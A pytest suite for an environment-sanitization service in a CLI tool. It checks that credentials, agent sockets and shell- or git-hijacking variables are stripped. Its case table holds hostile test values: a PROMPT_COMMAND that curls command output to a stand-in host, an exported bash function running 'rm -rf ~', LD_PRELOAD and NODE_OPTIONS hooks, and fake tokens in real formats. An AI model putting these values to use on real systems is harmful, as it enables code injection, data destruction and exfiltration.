"""EnvironmentSanitizationService: properties 25 to 27 and a table of real-looking cases."""

from __future__ import annotations

import logging
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ollm_cli.base.redaction import find_secrets
from ollm_cli.config.settings import DEFAULT_ALLOW_LIST, DEFAULT_DENY_PATTERNS, EnvironmentSettings
from ollm_cli.pipeline.environment._sanitizer import (
    EXECUTION_VARIABLES,
    SECRET_INFIXES,
    SECRET_WORDS,
    EnvDecision,
    EnvironmentSanitizationService,
    compile_name_pattern,
    secret_name_word,
    session_socket,
)
from tests.environment.developer_env import DEVELOPER_ENV, KNOWN_FALSE_REMOVALS

GH = "ghp_" + "Zq7Lm2Xp9Rt4Vb8Nc1Kd6Hf3Jg5Ws0Ye2Ua4"
OPENAI = "sk-proj-" + "T3BlbkFJx7Q2mZ9rL4vK8pW1nY6sD3fG5hJ0"
ANTHROPIC = "sk-ant-api03-" + "Xy7_Qm2-Lp9Rt4Vb8Nc1Kd6Hf3Jg5Ws0Ye2Ua4"
AWS_ID = "AKIA" + "Z7Q2M9RL4VK8PW1N"
JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpM"
PRIVATE_KEY = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq9Xw\n-----END RSA PRIVATE KEY-----"
)
LS_COLORS = (
    "rs=0:di=01;34:ln=01;36:mh=00:pi=40;33:so=01;35:do=01;35:bd=40;33;01:cd=40;33;01:"
    "or=40;31;01:mi=00:su=37;41:sg=30;43:ca=30;41:tw=30;42:ow=34;42:st=37;44:ex=01;32:"
    "*.tar=01;31:*.tgz=01;31:*.zip=01;31:*.jpg=01;35:*.png=01;35"
)

# (name, value, kept): real-looking variables and what tools must get.
CASES: list[tuple[str, str, bool]] = [
    # The core variables and ordinary configuration pass.
    ("PATH", "/usr/local/bin:/usr/bin:/bin", True),
    ("HOME", "/home/alice", True),
    ("USER", "alice", True),
    ("SHELL", "/bin/bash", True),
    ("TERM", "xterm-256color", True),
    ("LANG", "en_US.UTF-8", True),
    ("LC_ALL", "C.UTF-8", True),
    ("LC_CTYPE", "en_US.UTF-8", True),
    ("KEYBOARD", "us", True),
    ("MONKEYS", "12", True),
    ("KEYMAP", "fr-latin1", True),
    ("KEY_FILE", "/home/alice/.ssh/id_ed25519", False),  # "key" in any position
    ("SSH_AUTH_SOCK", "/tmp/ssh-XXXXk3Jd/agent.1234", False),  # the agent signs as you
    ("SSH_AGENT_PID", "4242", True),
    ("TOKENIZERS_PARALLELISM", "false", True),
    ("PASSWORD_STORE_DIR", "/home/alice/.password-store", False),
    ("GIT_COMMIT", "3f786850e387550fdab836ed7e6dc881de23001b", True),
    ("BUILD_ID", "123e4567-e89b-12d3-a456-426614174000", True),
    (
        "IMAGE_DIGEST",
        "sha256:" + "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        True,
    ),
    ("LS_COLORS", LS_COLORS, True),
    ("GREETING_B64", "SGVsbG8gV29ybGQhIFRoaXMgaXMgYSB0ZXN0Lg==", True),
    # Issue 27: the session bus, the runtime folder and agent sockets reach the desktop.
    ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus", False),
    ("DOCKER_HOST", "unix:///run/user/1000/docker.sock", False),
    ("CONTAINER_HOST", "unix:///run/user/1000/podman/podman.sock", False),
    ("GPG_AGENT_INFO", "/run/user/1000/gnupg/S.gpg-agent:0:1", False),
    ("FOO_IPC_SOCKET", "/tmp/foo.sock", False),
    ("MY_HELPER", "/run/user/1000/helper", False),  # a path in the runtime folder
    ("MY_IPC", "unix:abstract=/tmp/dbus-Xk3Jd", False),
    ("HTTP_PROXY", "http://proxy.internal:3128", True),
    ("NO_PROXY", "localhost,127.0.0.1,.internal", True),
    ("DOCKER_HOST", "tcp://127.0.0.1:2375", True),
    ("DISPLAY", ":0", True),
    ("EDITOR", "vim", True),
    ("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64", True),
    ("VIRTUAL_ENV", "/home/alice/proj/.venv", True),
    ("PYTHONPATH", "/home/alice/proj/src", True),
    ("KUBECONFIG", "/home/alice/.kube/config", True),
    ("XDG_RUNTIME_DIR", "/run/user/1000", False),
    # Issue 23: the CA bundles tools need for HTTPS behind a proxy are kept.
    ("SSL_CERT_FILE", "/etc/ssl/certs/ca-certificates.crt", True),
    ("SSL_CERT_DIR", "/etc/ssl/certs", True),
    ("NODE_EXTRA_CA_CERTS", "/usr/local/share/ca-certificates/corp.crt", True),
    ("REQUESTS_CA_BUNDLE", "/etc/pki/tls/certs/ca-bundle.crt", True),
    ("CURL_CA_BUNDLE", "/etc/ssl/certs/ca-certificates.crt", True),
    ("AWS_CA_BUNDLE", "/etc/ssl/certs/corp-ca.pem", True),
    ("ACME_TOOL_CA_BUNDLE", "~/corp/ca.pem", True),
    ("SSL_CERT_FILE", PRIVATE_KEY, False),  # a key, not a path: the value check stands
    ("CLIENT_CA_KEY_FILE", "/etc/ssl/private/ca.key", False),  # a key is no CA bundle
    ("npm_config_cache", "/home/alice/.npm", True),
    ("COLORTERM", "truecolor", True),
    ("LESSOPEN", "| /usr/bin/lesspipe %s", True),
    ("PS1", r"\u@\h:\w\$ ", True),
    ("CARGO_HOME", "/home/alice/.cargo", True),
    ("MAX_TOKENS", "4096", True),
    # Credentials by name (deny patterns).
    ("OPENAI_API_KEY", OPENAI, False),
    ("ANTHROPIC_API_KEY", ANTHROPIC, False),
    ("GITHUB_TOKEN", GH, False),
    ("GH_TOKEN", "gho_" + "a" * 36, False),
    ("SSH_KEY", "not-a-key-format-but-a-key", False),
    ("AWS_ACCESS_KEY_ID", AWS_ID, False),
    ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", False),
    ("AWS_REGION", "us-east-1", False),
    ("GITHUB_ACTIONS", "true", False),
    ("DB_PASSWORD", "hunter2", False),
    ("APP_SECRET", "abc", False),
    ("SERVICE_CREDENTIAL", "xyz", False),
    ("TWINE_PASSWORD", "pypi-AgEIcHlwaS5vcmc" + "x" * 60, False),
    # Credentials by value, whatever the name.
    ("MY_TOOL_CONFIG", GH, False),
    ("DATABASE_URL", "postgres://app:s3cr3tpw@db:5432/app", False),
    ("HTTPS_PROXY", "http://alice:pa55w0rd@proxy.internal:3128", False),
    ("SLACK_HOOK", "https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXX", False),
    ("SLACK_BOT", "xoxb-123456789012-abcdefghijklmnop", False),
    ("HUGGINGFACE", "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh", False),
    ("NPMRC_AUTH", "npm_" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2", False),
    ("PYPI_UPLOAD", "pypi-AgEIcHlwaS5vcmc" + "Yz0_-" * 12, False),
    ("SESSION", JWT, False),
    ("DEPLOY_PEM", PRIVATE_KEY, False),
    ("STRIPE", "sk_live_" + "51Hx9Lm2Qp7Rt4Vb8Nc1Kd6", False),
    ("GITLAB_JOB", "glpat-" + "x7Q2mZ9rL4vK8pW1nY6s", False),
    ("MAPS", "AIza" + "SyA1234567890abcdefghijklmnopqrstuv", False),
    ("CLAUDE", ANTHROPIC, False),
    ("CI_JOB_JWT_V2", JWT, False),
    ("JAVA_OPTS", "-Djavax.net.ssl.trustStorePassword=changeit99", False),
    ("AUTH_HEADER", "Bearer abcdefghijklmnop123456", False),
    # No allow-list entry bypasses the value check.
    ("PATH", f"/usr/bin:{GH}", False),
    ("HOME", "https://alice:pa55w0rd@example.com", False),
    # Variables that change what git or the shell execute.
    ("GIT_SSH_COMMAND", "ssh -i ~/.ssh/deploy -o StrictHostKeyChecking=no", False),
    ("GIT_EXEC_PATH", "/tmp/evil-git", False),
    ("GIT_PROXY_COMMAND", "/tmp/proxy.sh", False),
    ("GIT_ASKPASS", "/tmp/askpass.sh", False),
    ("GIT_CONFIG_KEY_0", "core.sshCommand", False),
    ("LD_PRELOAD", "/tmp/evil.so", False),
    ("LD_LIBRARY_PATH", "/tmp/libs", False),
    ("BASH_ENV", "/tmp/rc.sh", False),
    ("PROMPT_COMMAND", "curl http://x.example/$(id)", False),
    ("BASH_FUNC_ls%%", "() {  rm -rf ~; }", False),
    ("NODE_OPTIONS", "--require /tmp/hook.js", False),
]


@pytest.mark.parametrize(
    ("name", "value", "kept"),
    CASES,
    ids=[f"{n}-{'kept' if k else 'removed'}-{i}" for i, (n, _, k) in enumerate(CASES)],
)
def test_sanitizer_case_table(name: str, value: str, kept: bool) -> None:
    sanitizer = EnvironmentSanitizationService()
    result = sanitizer.sanitize({name: value})
    assert (name in result) is kept
    if kept:
        assert result[name] == value
    (decision,) = sanitizer.explain({name: value})
    assert decision.kept is kept
    assert value not in decision.reason


def test_the_table_is_large_enough() -> None:
    assert len(CASES) >= 60
    assert sum(1 for *_, kept in CASES if kept) >= 30


@pytest.mark.parametrize(
    ("pattern", "name", "matches"),
    [
        ("*_KEY", "OPENAI_API_KEY", True),
        ("*_KEY", "SSH_KEY", True),
        ("*_KEY", "KEYBOARD", False),
        ("*_KEY", "MONKEYS", False),
        ("*_KEY", "API_KEYS", False),
        ("*_KEY", "KEY", False),
        ("*_KEY", "openai_api_key", True),
        ("AWS_*", "AWS_REGION", True),
        ("AWS_*", "AWSOME", False),
        ("AWS_*", "MY_AWS_REGION", False),
        ("*_TOKEN_*", "CI_TOKEN_V2", True),
        ("*_TOKEN_*", "CI_TOKEN", False),
        ("LC_*", "LC_ALL", True),
        ("API*", "APIKEY", True),
        ("API*", "API_KEY", False),
        ("K?Y", "KEY", True),
        ("[AB]_X", "B_X", True),
        ("[!AB]_X", "B_X", False),
        ("[!AB]_X", "C_X", True),
        ("PATH", "PATH", True),
        ("PATH", "MANPATH", False),
    ],
)
def test_patterns_match_whole_segments(pattern: str, name: str, matches: bool) -> None:
    assert (compile_name_pattern(pattern).match(name.upper()) is not None) is matches


@pytest.mark.parametrize("pattern", ["", "a b", "[abc", "X]", "[Z-A]", "$HOME", "[!]_X", "A/B"])
def test_invalid_patterns_are_rejected(pattern: str) -> None:
    with pytest.raises(ValueError, match="invalid pattern"):
        compile_name_pattern(pattern)


def test_invalid_custom_deny_pattern_warns_and_keeps_the_defaults(
    caplog: pytest.LogCaptureFixture,
) -> None:
    settings = EnvironmentSettings.model_construct(
        mode="default", allow_list=["PATH"], deny_patterns=["*_KEY", "[broken"]
    )
    with caplog.at_level(logging.WARNING):
        sanitizer = EnvironmentSanitizationService(settings)
    assert sanitizer.deny_patterns == DEFAULT_DENY_PATTERNS
    assert sanitizer.allow_list == ("PATH",)
    assert "'[broken'" in caplog.text
    assert sanitizer.sanitize({"GITHUB_TOKEN": "x", "PATH": "/bin"}) == {"PATH": "/bin"}


def test_non_text_patterns_warn_and_keep_the_defaults(caplog: pytest.LogCaptureFixture) -> None:
    settings = EnvironmentSettings.model_construct(
        mode="default",
        allow_list="PATH",  # type: ignore[arg-type]
        deny_patterns=[42],  # type: ignore[list-item]
    )
    with caplog.at_level(logging.WARNING):
        sanitizer = EnvironmentSanitizationService(settings)
    assert sanitizer.allow_list == DEFAULT_ALLOW_LIST
    assert sanitizer.deny_patterns == DEFAULT_DENY_PATTERNS
    assert "allowList is not a list" in caplog.text


@pytest.mark.parametrize(
    "broken",
    [
        {"mode": "everything"},
        {"allowList": "PATH", "denyPatterns": 3},
        EnvironmentSettings.model_construct(mode="bogus"),  # type: ignore[arg-type]
        ["not", "settings"],
    ],
    ids=["unknown-mode", "wrong-types", "constructed-bad-mode", "not-a-mapping"],
)
def test_broken_configuration_allows_only_the_core_variables(
    broken: object, caplog: pytest.LogCaptureFixture
) -> None:
    sanitizer = EnvironmentSanitizationService()
    with caplog.at_level(logging.WARNING):
        sanitizer.configure(broken)  # type: ignore[arg-type]
    assert sanitizer.mode == "allowOnly"
    assert "unusable configuration" in caplog.text
    env = {"PATH": "/bin", "LC_ALL": "C", "EDITOR": "vim", "MY_SETTING": "1"}
    assert sanitizer.sanitize(env) == {"PATH": "/bin", "LC_ALL": "C"}


def test_configure_accepts_the_camel_case_mapping() -> None:
    sanitizer = EnvironmentSanitizationService()
    sanitizer.configure(
        {"mode": "default", "allowList": ["PATH", "MY_*"], "denyPatterns": ["MY_*"]}
    )
    assert sanitizer.sanitize({"MY_VAR": "1", "PATH": "/bin"}) == {"MY_VAR": "1", "PATH": "/bin"}


def test_allow_only_mode_keeps_nothing_but_the_allow_list() -> None:
    sanitizer = EnvironmentSanitizationService(
        EnvironmentSettings(mode="allowOnly", allow_list=["PATH", "HOME", "LC_*", "EDITOR"])
    )
    env = {"PATH": "/bin", "HOME": "/h", "LC_ALL": "C", "EDITOR": "vim", "PAGER": "less"}
    assert sanitizer.sanitize(env) == {"PATH": "/bin", "HOME": "/h", "LC_ALL": "C", "EDITOR": "vim"}
    reasons = {d.name: d.reason for d in sanitizer.explain(env)}
    assert reasons["PAGER"] == "not on the allow list (allowOnly mode)"
    assert reasons["PATH"] == "on the allow list (PATH)"


def test_explain_gives_reasons_never_values() -> None:
    sanitizer = EnvironmentSanitizationService()
    env = {
        "OPENAI_API_KEY": OPENAI,
        "NOTES": GH,
        "LD_PRELOAD": "/tmp/x.so",
        "EDITOR": "vim",
        "HOME": "/home/a",
    }
    decisions = sanitizer.explain(env)
    assert [d.name for d in decisions] == sorted(env)
    by_name = {d.name: d for d in decisions}
    assert by_name["OPENAI_API_KEY"] == EnvDecision(
        name="OPENAI_API_KEY", kept=False, reason="name matches deny pattern *_KEY"
    )
    assert by_name["NOTES"].reason == "value looks like a credential (github)"
    assert by_name["LD_PRELOAD"].reason == "changes what git or the shell executes"
    assert by_name["EDITOR"].reason == "matches no deny pattern"
    assert by_name["HOME"].reason == "on the allow list (HOME)"
    dumped = str([d.model_dump() for d in decisions])
    assert OPENAI not in dumped and GH not in dumped


def test_execution_variables_are_removed_even_when_allowed() -> None:
    sanitizer = EnvironmentSanitizationService(
        EnvironmentSettings(allow_list=["PATH", "GIT_SSH_COMMAND"])
    )
    assert sanitizer.is_allowed("GIT_SSH_COMMAND")
    assert sanitizer.is_denied("GIT_SSH_COMMAND")
    assert sanitizer.sanitize({"GIT_SSH_COMMAND": "ssh"}) == {}
    assert len(EXECUTION_VARIABLES) >= 20


def test_removed_secret_values_feed_the_redactor() -> None:
    sanitizer = EnvironmentSanitizationService()
    env = {
        "OPENAI_API_KEY": OPENAI,
        "DB_PASSWORD": "correct-horse-battery",
        "APP_SECRET": "abc",  # too short to redact usefully
        "GITHUB_WORKSPACE": "/home/runner/work/repo",  # a path, not a secret
        "LD_PRELOAD": "/tmp/evil-library.so",  # removed, but not a secret
        "NOTES": f"token {GH}",
        "EDITOR": "vim-and-more",
    }
    assert sorted(sanitizer.removed_secret_values(env)) == sorted(
        [OPENAI, "correct-horse-battery", f"token {GH}"]
    )
    redactor = sanitizer.redactor_for(env)
    text = f"used {OPENAI} and correct-horse-battery in /home/runner/work/repo"
    assert redactor.redact(text) == (
        "used [REDACTED:env:OPENAI_API_KEY] and [REDACTED:env:DB_PASSWORD] "
        "in /home/runner/work/repo"
    )


def test_sanitize_does_not_change_its_input() -> None:
    env = {"PATH": "/bin", "GITHUB_TOKEN": GH}
    EnvironmentSanitizationService().sanitize(env)
    assert env == {"PATH": "/bin", "GITHUB_TOKEN": GH}


def test_removed_names_are_logged_at_debug_without_values(
    caplog: pytest.LogCaptureFixture,
) -> None:
    with caplog.at_level(logging.DEBUG, logger="ollm_cli.pipeline.environment._sanitizer"):
        EnvironmentSanitizationService().sanitize({"GITHUB_TOKEN": GH, "PATH": "/bin"})
    assert "GITHUB_TOKEN" in caplog.text
    assert GH not in caplog.text


# -- properties ---------------------------------------------------------------------

# segments that are no credential word: a name holding one (``0_PWD``) is removed whatever
# the patterns say, which is the secret-name rule's business, not these properties'
SEGMENT = st.text(alphabet=string.ascii_uppercase + string.digits, min_size=1, max_size=6).filter(
    lambda s: s.lower() not in SECRET_WORDS and not any(i in s.lower() for i in SECRET_INFIXES)
)
# nor are names the secret-name or session-socket rules remove (``0OTP``, ``A_SOCK``)
NAME = (
    st.lists(SEGMENT, min_size=1, max_size=4)
    .map("_".join)
    .filter(lambda n: secret_name_word(n) is None and not session_socket(n, ""))
)
#: Values that cannot look like a credential nor a socket: lower-case words, digits, paths.
SAFE_VALUE = st.text(alphabet=string.ascii_lowercase + string.digits + "/.: -", max_size=30).filter(
    lambda v: not session_socket("VALUE", v)
)


def _segment_oracle(pattern: str, name: str) -> bool:
    """Independent model of the three pattern shapes the properties use."""
    segments = name.upper().split("_")
    if pattern.startswith("*_"):
        return len(segments) >= 2 and segments[-1] == pattern[2:]
    if pattern.endswith("_*"):
        return len(segments) >= 2 and segments[0] == pattern[:-2]
    return name.upper() == pattern


def _is_execution(name: str) -> bool:
    return any(compile_name_pattern(p).match(name.upper()) for p in EXECUTION_VARIABLES)


PATTERN = st.one_of(
    SEGMENT.map(lambda s: f"*_{s}"),
    SEGMENT.map(lambda s: f"{s}_*"),
    NAME,
)


@st.composite
def environment(draw: st.DrawFn, patterns: list[str]) -> dict[str, str]:
    """Random names plus names built to match the patterns, with safe values."""
    names = draw(st.lists(NAME, max_size=12))
    for pattern in patterns:
        prefix = draw(NAME)
        if pattern.startswith("*_"):
            names.append(f"{prefix}_{pattern[2:]}")
        elif pattern.endswith("_*"):
            names.append(f"{pattern[:-2]}_{prefix}")
        else:
            names.append(pattern)
    return {name: draw(SAFE_VALUE) for name in names}


@given(st.data(), st.lists(PATTERN, min_size=1, max_size=5))
def test_property_25_deny_pattern_filtering(data: st.DataObject, patterns: list[str]) -> None:
    """Every variable matching a deny pattern (and not allowed) is removed."""
    sanitizer = EnvironmentSanitizationService(
        EnvironmentSettings(allow_list=["PATH"], deny_patterns=patterns)
    )
    env = data.draw(environment(patterns))
    result = sanitizer.sanitize(env)
    for name in env:
        matched = any(_segment_oracle(p, name) for p in patterns)
        if matched:
            assert sanitizer.is_denied(name)
            if not sanitizer.is_allowed(name):
                assert name not in result
        elif not sanitizer.is_allowed(name) and not _is_execution(name):
            assert not sanitizer.is_denied(name)
            assert result[name] == env[name]


ALLOWED_NAME = st.one_of(
    st.sampled_from(["PATH", "HOME", "USER", "SHELL", "TERM", "LANG"]),
    SEGMENT.map(lambda s: f"LC_{s}"),
    SEGMENT.map(lambda s: f"ALLOWED_{s}_KEY"),
)


@given(
    st.dictionaries(ALLOWED_NAME, SAFE_VALUE, min_size=1, max_size=8),
    st.dictionaries(NAME, SAFE_VALUE, max_size=8),
    st.sampled_from(["default", "allowOnly"]),
)
def test_property_26_allow_list_preservation(
    allowed: dict[str, str], others: dict[str, str], mode: str
) -> None:
    """Variables on the allow list pass unchanged, even when a deny pattern matches them."""
    sanitizer = EnvironmentSanitizationService(
        EnvironmentSettings(
            mode=mode,
            allow_list=[*DEFAULT_ALLOW_LIST, "ALLOWED_*"],
        )
    )
    env = {**others, **allowed}
    result = sanitizer.sanitize(env)
    for name, value in allowed.items():
        assert result[name] == value


@given(
    st.dictionaries(
        st.one_of(NAME, ALLOWED_NAME, st.sampled_from(list(EXECUTION_VARIABLES))),
        st.one_of(SAFE_VALUE, st.sampled_from([GH, OPENAI, JWT, "postgres://a:b1234567@h/d"])),
        max_size=16,
    ),
    st.lists(PATTERN, max_size=4),
)
def test_property_27_sanitization_completeness(env: dict[str, str], extra: list[str]) -> None:
    """The result holds only allowed or non-denied variables, unchanged, with no secret value."""
    sanitizer = EnvironmentSanitizationService(
        EnvironmentSettings(deny_patterns=[*DEFAULT_DENY_PATTERNS, *extra])
    )
    result = sanitizer.sanitize(env)
    assert set(result) <= set(env)
    for name, value in result.items():
        assert value == env[name]
        assert sanitizer.is_allowed(name) or not sanitizer.is_denied(name)
        assert not _is_execution(name)
        assert find_secrets(value) == []
    decisions = {d.name: d.kept for d in sanitizer.explain(env)}
    assert {n for n, kept in decisions.items() if kept} == set(result)


# -- issue 23: what tools need; issue 27: what leads to the desktop ------------------------


def test_false_removals_on_common_developer_variables_are_only_the_known_ones() -> None:
    sanitizer = EnvironmentSanitizationService()
    kept = sanitizer.sanitize(DEVELOPER_ENV)
    removed = set(DEVELOPER_ENV) - set(kept)
    assert len(DEVELOPER_ENV) >= 50
    assert removed == KNOWN_FALSE_REMOVALS
    assert all(kept[name] == DEVELOPER_ENV[name] for name in kept)


def test_ca_bundles_are_kept_unless_a_deny_pattern_of_the_user_names_them() -> None:
    env = {"SSL_CERT_FILE": "/etc/ssl/certs/ca.crt", "AWS_CA_BUNDLE": "/etc/ssl/certs/ca.crt"}
    assert EnvironmentSanitizationService().sanitize(env) == env
    own = EnvironmentSanitizationService(EnvironmentSettings(deny_patterns=["SSL_*", "AWS_*"]))
    assert own.sanitize(env) == {"AWS_CA_BUNDLE": "/etc/ssl/certs/ca.crt"}
    (decision, _) = own.explain({"SSL_CERT_FILE": "/x", "Z": "1"})
    assert decision.reason == "name matches deny pattern SSL_*"
    strict = EnvironmentSanitizationService(EnvironmentSettings(mode="allowOnly"))
    assert strict.sanitize(env) == {}


def test_session_sockets_are_removed_unless_allowed_and_the_check_says_why() -> None:
    env = {
        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus",
        "XDG_RUNTIME_DIR": "/run/user/1000",
        "SSH_AUTH_SOCK": "/run/user/1000/keyring/ssh",
        "DOCKER_HOST": "unix:///var/run/docker.sock",
    }
    sanitizer = EnvironmentSanitizationService()
    assert sanitizer.sanitize(env) == {}
    for decision in sanitizer.explain(env):
        assert "desktop session, runtime folder or an agent socket" in decision.reason
    allowed = EnvironmentSanitizationService(
        EnvironmentSettings(allow_list=[*DEFAULT_ALLOW_LIST, "SSH_AUTH_SOCK"])
    )
    assert allowed.sanitize(env) == {"SSH_AUTH_SOCK": "/run/user/1000/keyring/ssh"}
